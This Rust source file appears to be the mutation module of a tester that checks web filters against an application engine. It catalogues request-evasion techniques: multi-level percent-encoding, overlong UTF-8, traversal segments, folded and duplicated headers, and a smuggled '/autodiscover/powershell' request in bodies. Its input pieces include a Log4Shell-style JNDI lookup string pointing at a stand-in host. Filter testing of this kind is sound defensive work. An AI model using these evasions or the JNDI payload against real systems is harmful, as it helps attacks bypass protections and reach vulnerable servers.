//! What attackers do to a request so that a filter reads it otherwise than the application does.

use crate::case::Raw;
use crate::dice::Dice;

/// A change of a request.
pub type Mutation = fn(&mut Raw, &mut Dice);

/// The mutation that puts underscores for dashes.
pub const UNDERSCORES: &str = "underscores in names";

/// Those of the target first: they are drawn twice as often.
pub const MUTATIONS: [(&str, Mutation); 55] = [
    ("percent-encoded", |raw, dice| encode(&mut raw.target, dice, 3, 1)),
    ("percent-encoded whole", |raw, dice| encode(&mut raw.target, dice, 1, 1)),
    ("percent-encoded twice", |raw, dice| encode(&mut raw.target, dice, 3, 2)),
    ("letters in mixed case", |raw, dice| mix(&mut raw.target, dice)),
    ("capitals", |raw, _| raw.target.make_ascii_uppercase()),
    ("//", |raw, dice| at_slash(&mut raw.target, dice, b"//")),
    ("/./", |raw, dice| at_slash(&mut raw.target, dice, b"/./")),
    ("/x/../", |raw, dice| at_slash(&mut raw.target, dice, b"/x/../")),
    ("%2e", |raw, dice| at_slash(&mut raw.target, dice, b"/%2e/")),
    ("%2E%2e", |raw, dice| at_slash(&mut raw.target, dice, b"/x/%2E%2e/")),
    ("%2f", |raw, dice| at_slash(&mut raw.target, dice, b"%2f")),
    ("%2F", |raw, dice| at_slash(&mut raw.target, dice, b"%2F")),
    ("%5c", |raw, dice| at_slash(&mut raw.target, dice, b"%5c")),
    ("backslash", |raw, dice| at_slash(&mut raw.target, dice, b"\\")),
    (";params", |raw, dice| at_slash(&mut raw.target, dice, b";a=b/")),
    ("%00", |raw, dice| insert(&mut raw.target, dice, b"%00")),
    ("%0d%0a", |raw, dice| insert(&mut raw.target, dice, b"%0d%0a")),
    ("%u0041", |raw, dice| insert(&mut raw.target, dice, b"%u0041")),
    ("overlong", |raw, dice| {
        let long: &[u8] = dice.pick(&[&b"%c0%af"[..], b"%c0%ae", b"%e0%80%af", b"%C1%A1", b"%f0%80%80%af"]);
        insert(&mut raw.target, dice, long);
    }),
    ("a broken percent sequence", |raw, dice| {
        let broken: &[u8] = dice.pick(&[&b"%"[..], b"%4", b"%zz", b"%%", b"%2"]);
        insert(&mut raw.target, dice, broken);
    }),
    ("high octets", |raw, dice| {
        let high: &[u8] = dice.pick(&[&b"\xff"[..], b"\xe9", b"\x80", b"\xe2\x80"]);
        insert(&mut raw.target, dice, high);
    }),
    ("UTF-8", |raw, dice| {
        let wide: &[u8] = dice.pick(&[&b"\xc3\xa9"[..], b"\xe2\x80\xa8", b"\xef\xbf\xbd", b"\xe2\x84\xaa"]);
        insert(&mut raw.target, dice, wide);
    }),
    ("percent-encoded UTF-8", |raw, dice| {
        let wide: &[u8] = dice.pick(&[&b"%c3%A9"[..], b"%E2%80%A8", b"%e2%84%aa", b"%ef%bb%bf"]);
        insert(&mut raw.target, dice, wide);
    }),
    ("a question mark", |raw, dice| insert(&mut raw.target, dice, b"?")),
    ("no query", |raw, _| {
        raw.target.iter_mut().filter(|octet| **octet == b'?').for_each(|octet| *octet = b'/')
    }),
    ("a number sign", |raw, dice| {
        if dice.roll(3) == 0 {
            insert(&mut raw.target, dice, b"#");
        } else {
            raw.target.extend(b"#a");
        }
    }),
    ("absolute", |raw, _| {
        let host = host(raw);
        absolute(raw, &[b"http://", &*host].concat());
    }),
    ("absolute, in capitals", |raw, _| {
        let host = host(raw).to_ascii_uppercase();
        absolute(raw, &[b"HTTP://", &*host].concat());
    }),
    ("absolute, another host", |raw, _| absolute(raw, b"http://other.example")),
    ("absolute, without a path", |raw, _| {
        let query = raw.target.iter().position(|octet| *octet == b'?');
        let query = query.map(|at| raw.target.split_off(at)).unwrap_or_default();
        raw.target = [b"http://", &*host(raw), &query].concat();
    }),
    ("absolute, with user", |raw, _| absolute(raw, b"http://user:pass@www.example.org")),
    ("absolute, https", |raw, _| absolute(raw, b"https://www.example.org:443")),
    ("pieces", |raw, dice| {
        let pieces = text(dice);
        insert(&mut raw.target, dice, &pieces);
    }),
    ("long", |raw, dice| {
        let filler: &str = dice.pick(&["a", "%41", "/x", "&a=b", "%", "autodiscover"]);
        let length = [1_000, 4_000, 8_000][dice.roll(3)];
        let filler = filler.repeat(length / filler.len());
        if !raw.target.contains(&b'?') {
            raw.target.push(b'?');
        }
        if dice.roll(2) == 0 {
            raw.target.extend(filler.bytes());
        } else {
            let at = raw.target.iter().position(|octet| *octet == b'?').unwrap_or(0) + 1;
            raw.target.splice(at..at, filler.bytes());
        }
    }),
    // Fields.
    ("percent-encoded field", |raw, dice| value(raw, dice, |value, dice| encode(value, dice, 3, 1))),
    ("field in mixed case", |raw, dice| value(raw, dice, |value, dice| mix(value, dice))),
    ("high octets in a field", |raw, dice| value(raw, dice, |value, dice| insert(value, dice, b"\xff\xe9"))),
    ("pieces in a field", |raw, dice| {
        value(raw, dice, |value, dice| {
            let pieces = text(dice);
            insert(value, dice, &pieces);
        });
    }),
    ("a control octet in a field", |raw, dice| {
        let control: &[u8] = dice.pick(&[&b"\x00"[..], b"\x01", b"\x7f", b"\x0b"]);
        value(raw, dice, |value, dice| insert(value, dice, control));
        raw.quiet = false;
    }),
    ("blanks around a value", |raw, dice| {
        let Some(at) = any_field(raw, dice) else { return };
        let colon = raw.fields[at].iter().position(|octet| *octet == b':').map_or(0, |at| at + 1);
        let blanks: &[u8] = dice.pick(&[&b"\t"[..], b"   ", b" \t ", b""]);
        let behind: &[u8] = dice.pick(&[&b""[..], b" ", b"\t", b" \t "]);
        raw.fields[at].splice(colon..colon, blanks.iter().copied());
        raw.fields[at].extend_from_slice(behind);
    }),
    ("a blank before the colon", |raw, dice| {
        let Some(at) = any_field(raw, dice) else { return };
        let colon = raw.fields[at].iter().position(|octet| *octet == b':').unwrap_or(0);
        raw.fields[at].insert(colon, b' ');
        raw.quiet = false;
    }),
    ("a folded field", |raw, dice| {
        let fold: &[u8] = dice.pick(&[&b"\r\n "[..], b"\r\n\t"]);
        // What `Connection` names is taken off behind the rules, and the engine, which cannot read a folded head,
        // has no verdict to compare with what arrives then.
        if !raw.fields.iter().any(|field| field.starts_with(b"Connection:")) {
            value(raw, dice, |value, dice| insert(value, dice, fold));
        }
        raw.quiet = false;
    }),
    ("a repeated field", |raw, dice| {
        let Some(at) = any_field(raw, dice) else { return };
        let again = raw.fields[at].clone();
        let to = dice.roll(raw.fields.len() + 1);
        raw.fields.insert(to, again);
    }),
    ("a field in two", |raw, dice| {
        let Some(at) = any_field(raw, dice) else { return };
        let field = raw.fields[at].clone();
        let Some(colon) = field.iter().position(|octet| *octet == b':') else { return };
        let cut = (colon + 1 + dice.roll(field.len() - colon)).min(field.len());
        let second = [&field[..=colon], b" ", &field[cut..]].concat();
        raw.fields[at].truncate(cut);
        raw.fields.insert(at + 1, second);
    }),
    ("a harmless one first", |raw, dice| {
        let Some(at) = any_field(raw, dice) else { return };
        let Some(colon) = raw.fields[at].iter().position(|octet| *octet == b':') else { return };
        let harmless = [&raw.fields[at][..=colon], b" a"].concat();
        raw.fields.insert(at, harmless);
    }),
    ("a name in mixed case", |raw, dice| {
        let Some(at) = any_field(raw, dice) else { return };
        let colon = raw.fields[at].iter().position(|octet| *octet == b':').unwrap_or(0);
        let mut name = raw.fields[at][..colon].to_vec();
        mix(&mut name, dice);
        raw.fields[at].splice(..colon, name);
    }),
    (UNDERSCORES, |raw, _| {
        for field in &mut raw.fields {
            let colon = field.iter().position(|octet| *octet == b':').unwrap_or(0);
            let name = &mut field[..colon];
            if !name.eq_ignore_ascii_case(b"Content-Length") {
                name.iter_mut().filter(|octet| **octet == b'-').for_each(|octet| *octet = b'_');
            }
        }
    }),
    ("an empty value", |raw, dice| value(raw, dice, |value, _| value.clear())),
    // The message.
    ("HTTP/1.0", |raw, _| {
        raw.version = b"HTTP/1.0".to_vec();
        raw.quiet = false;
    }),
    ("another version", |raw, dice| {
        let version: &[u8] = dice.pick(&[&b"HTTP/1.2"[..], b"HTTP/2.0", b"http/1.1", b"HTTP/01.1"]);
        raw.version = version.to_vec();
        raw.quiet = false;
    }),
    ("hosts", |raw, dice| {
        let is_host = |field: &Vec<u8>| field.len() >= 5 && field[..5].eq_ignore_ascii_case(b"host:");
        match dice.roll(4) {
            0 => raw.fields.retain(|field| !is_host(field)),
            1 => raw.fields.push(b"Host: other.example".to_vec()),
            2 => {
                raw.fields.retain(|field| !is_host(field));
                raw.fields.push(b"Host:".to_vec());
            }
            _ => {
                raw.fields.retain(|field| !is_host(field));
                raw.fields.push(b"host: WWW.example.org.:8080".to_vec());
            }
        }
        raw.quiet = false;
    }),
    ("another method", |raw, dice| {
        let methods: [&[u8]; 10] = [
            b"POST",
            b"PUT",
            b"DELETE",
            b"PROPFIND",
            b"TRACE",
            b"CONNECT",
            b"get",
            b"FOO",
            b"OPTIONS",
            b"HEAD",
        ];
        raw.method = dice.pick(&methods).to_vec();
        if !matches!(&*raw.method, b"POST" | b"PUT" | b"DELETE" | b"OPTIONS" | b"HEAD") {
            raw.quiet = false;
        }
    }),
    ("a body", |raw, dice| body(raw, dice, false)),
    ("a chunked body", |raw, dice| body(raw, dice, true)),
    ("an odd end or beginning", |raw, dice| {
        match dice.roll(4) {
            0 => raw.line_end = b"\n",
            1 => raw.before = b"\r\n".to_vec(),
            2 => raw.fields.push(b"Connection: close".to_vec()),
            _ if raw.fields.iter().any(|field| field.contains(&b'\n')) => {}
            _ => raw.fields.push(b"Connection: X-Api-Version, Cookie, close".to_vec()),
        }
        raw.quiet = false;
    }),
];

/// The number of mutations of the target.
const OF_TARGET: usize = 34;

/// Draws one; those of the target as often as all others together and a bit more.
pub fn draw(dice: &mut Dice) -> usize {
    if dice.roll(3) == 0 { OF_TARGET + dice.roll(MUTATIONS.len() - OF_TARGET) } else { dice.roll(OF_TARGET) }
}

const PIECES: [&[u8]; 56] = [
    b"foo",
    b"bar",
    b"baz",
    b"foo",
    b"bar",
    b"FOO",
    b"Bar",
    b"foo.bar",
    b"foobaz",
    b"barbaz",
    b"fo0",
    b"1foo",
    b"foo=",
    b"?foo=",
    b"&foo=",
    b";foo",
    b"boo",
    b"ber",
    b"/",
    b"/",
    b"//",
    b"?",
    b"&",
    b"=",
    b".",
    b"..",
    b"../",
    b"..\\",
    b"\\",
    b"%2e",
    b"%2E",
    b"%2f",
    b"%5C",
    b"%00",
    b"%0a",
    b"%0D",
    b"%25",
    b"%252e",
    b"%",
    b"%4",
    b"%zz",
    b"%e2%80%a8",
    b"\xe2\x80\xa8",
    b"\xc3\xa9",
    b"%c3%A9",
    b"%C3",
    b"\xff",
    b"%ff",
    b"${",
    b"${jndi:ldap://x.example/a}",
    b"x",
    b"%20",
    b"+",
    b"s",
    b"0",
    b"%EF%BF%BD",
];

/// Text that often holds what generated rules look for, a little changed.
pub fn text(dice: &mut Dice) -> Vec<u8> {
    let mut text = Vec::new();
    for _ in 0..dice.roll(7) {
        let piece: &[u8] = if dice.roll(3) == 0 { dice.pick(&PIECES[..18]) } else { dice.pick(&PIECES) };
        let how = dice.roll(8);
        for byte in piece {
            match how {
                0 => text.extend(format!("%{byte:02x}").bytes()),
                1 if dice.roll(3) == 0 => text.extend(format!("%{byte:02X}").bytes()),
                2 if dice.roll(3) == 0 => text.extend(format!("%25{byte:02x}").bytes()),
                3 => text.push(byte.to_ascii_uppercase()),
                _ => text.push(*byte),
            }
        }
    }
    text
}

/// Percent-encodes one in `of` octets, `times` over, with hexadecimal digits in mixed case.
fn encode(text: &mut Vec<u8>, dice: &mut Dice, of: usize, times: usize) {
    for _ in 0..times {
        let mut encoded = Vec::with_capacity(text.len() * 2);
        for (at, byte) in text.iter().enumerate() {
            let keeps = at == 0 && *byte == b'/';
            if keeps || (of == 1 && !byte.is_ascii_alphanumeric()) || dice.roll(of) != 0 {
                encoded.push(*byte);
            } else if dice.roll(2) == 0 {
                encoded.extend(format!("%{byte:02x}").bytes());
            } else {
                encoded.extend(format!("%{byte:02X}").bytes());
            }
        }
        *text = encoded;
    }
}

fn mix(text: &mut [u8], dice: &mut Dice) {
    for byte in text.iter_mut().filter(|byte| byte.is_ascii_alphabetic()) {
        if dice.roll(2) == 0 {
            *byte ^= 0x20;
        }
    }
}

/// Replaces one slash, but not the first octet where that would leave no path.
fn at_slash(text: &mut Vec<u8>, dice: &mut Dice, with: &[u8]) {
    let slashes: Vec<usize> =
        text.iter().enumerate().filter(|(_, b)| **b == b'/').map(|(at, _)| at).collect();
    let keep = !with.starts_with(b"/");
    let slashes: &[usize] = if keep { slashes.get(1..).unwrap_or_default() } else { &slashes };
    if slashes.is_empty() {
        let with = with.to_vec();
        insert(text, dice, &with);
    } else {
        let at = slashes[dice.roll(slashes.len())];
        text.splice(at..=at, with.iter().copied());
    }
}

/// Inserts somewhere behind the first octet.
fn insert(text: &mut Vec<u8>, dice: &mut Dice, what: &[u8]) {
    let at = if text.is_empty() { 0 } else { 1 + dice.roll(text.len()) };
    text.splice(at..at, what.iter().copied());
}

/// What it says of its host.
fn host(raw: &Raw) -> Vec<u8> {
    let is_host = |field: &&Vec<u8>| field.len() >= 5 && field[..5].eq_ignore_ascii_case(b"host:");
    let of = raw.fields.iter().find(is_host).map_or(&b""[..], |field| &field[5..]);
    // A folded one would break the request line in two.
    of.split(|octet| octet.is_ascii_whitespace()).find(|word| !word.is_empty()).unwrap_or_default().to_vec()
}

fn absolute(raw: &mut Raw, authority: &[u8]) {
    raw.target.splice(0..0, authority.iter().copied());
}

/// The place of a field, where there is one.
fn any_field(raw: &Raw, dice: &mut Dice) -> Option<usize> {
    (!raw.fields.is_empty()).then(|| dice.roll(raw.fields.len()))
}

/// Changes the value of one field.
fn value(raw: &mut Raw, dice: &mut Dice, change: impl FnOnce(&mut Vec<u8>, &mut Dice)) {
    let Some(at) = any_field(raw, dice) else { return };
    let field = &mut raw.fields[at];
    let Some(colon) = field.iter().position(|octet| *octet == b':') else { return };
    // What says where the message ends is left alone: a server would wait for octets that never come.
    if field[..colon].eq_ignore_ascii_case(b"Content-Length")
        || field[..colon].eq_ignore_ascii_case(b"Transfer-Encoding")
    {
        return;
    }
    let start = (colon + 2).min(field.len());
    let mut value = field.split_off(start);
    change(&mut value, dice);
    field.extend(value);
    raw.quiet &= !field[..colon].eq_ignore_ascii_case(b"Host");
}

fn body(raw: &mut Raw, dice: &mut Dice, chunked: bool) {
    let framed = |field: &Vec<u8>| {
        let name = field.split(|octet| *octet == b':').next().unwrap_or_default();
        name.eq_ignore_ascii_case(b"Content-Length") || name.eq_ignore_ascii_case(b"Transfer-Encoding")
    };
    raw.fields.retain(|field| !framed(field));
    raw.method = b"POST".to_vec();
    let data = b"GET /autodiscover/powershell HTTP/1.1\r\nHost: body.example\r\n\r\n";
    let data = &data[..dice.roll(data.len() + 1)];
    if chunked {
        raw.fields.push(b"Transfer-Encoding: chunked".to_vec());
        raw.body.clear();
        for chunk in data.chunks(1 + dice.roll(40)) {
            raw.body.extend(format!("{:x}\r\n", chunk.len()).bytes());
            raw.body.extend_from_slice(chunk);
            raw.body.extend(b"\r\n");
        }
        raw.body.extend(b"0\r\n\r\n");
    } else {
        raw.fields.push(format!("Content-Length: {}", data.len()).into_bytes());
        raw.body = data.to_vec();
    }
    if dice.roll(4) == 0 {
        raw.fields.push(b"Expect: 100-continue".to_vec());
    }
    // Where a server refuses it, the body must not be read as the next request.
    raw.quiet = false;
}
